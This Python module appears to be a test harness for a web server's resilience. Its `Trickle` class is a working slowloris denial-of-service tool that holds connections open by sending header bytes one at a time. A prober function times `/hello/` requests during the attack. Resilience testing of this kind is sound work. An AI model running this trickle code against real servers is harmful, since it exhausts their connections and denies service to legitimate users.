"""Slow clients: connections that trickle their headers, and a prober that times `/hello/`.

The attack is the slowloris one: each connection sends a request line, then one byte of a
header at a time, and never ends its headers. A server that gives each connection a thread
while it reads the headers runs out of threads; one that reads them in an event loop does not.
"""

from __future__ import annotations

import logging
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import urllib3

log = logging.getLogger(__name__)

HEADER = b"X-Trickle: " + b"a" * 200  # more bytes than any trickle sends


class Trickle:
    """`count` connections to host:port, each sending a byte of its headers every `every` s."""

    def __init__(self, host: str, port: int, count: int, every: float = 0.5) -> None:
        self._sockets: list[socket.socket] = []
        self._stop = threading.Event()
        self._every = every
        for _ in range(count):
            sock = socket.create_connection((host, port), timeout=5)
            sock.sendall(b"GET /hello/ HTTP/1.1\r\nHost: trickle\r\n")
            self._sockets.append(sock)
        self.broken = 0  # connections the server closed while they trickled
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        sent = 0
        while not self._stop.wait(self._every):
            for sock in self._sockets:
                try:
                    sock.sendall(HEADER[sent : sent + 1])
                except OSError:
                    sock.close()
                    self.broken += 1
            self._sockets = [sock for sock in self._sockets if sock.fileno() != -1]
            sent = (sent + 1) % len(HEADER)

    @property
    def open(self) -> int:
        """Connections still trickling."""
        return len(self._sockets)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for sock in self._sockets:
            sock.close()


@dataclass(frozen=True)
class Probe:
    """One `/hello/`: its status (None: no answer in time) and how long it took."""

    status: int | None
    seconds: float


def probe_series(url: str, count: int, every: float, timeout: float) -> list[Probe]:
    """`count` probes of `url`, one started every `every` s, each on a new connection."""
    with ThreadPoolExecutor(max_workers=count) as pool:
        futures = []
        for _ in range(count):
            futures.append(pool.submit(_probe, url, timeout))
            time.sleep(every)
        return [future.result() for future in futures]


def _probe(url: str, timeout: float) -> Probe:
    started = time.monotonic()
    try:
        with urllib3.PoolManager(retries=False) as pool:  # a connection of its own
            response = pool.request("GET", url, timeout=timeout)
    except urllib3.exceptions.HTTPError as error:
        log.debug("probe of %s failed: %r", url, error)
        return Probe(None, time.monotonic() - started)
    return Probe(response.status, time.monotonic() - started)
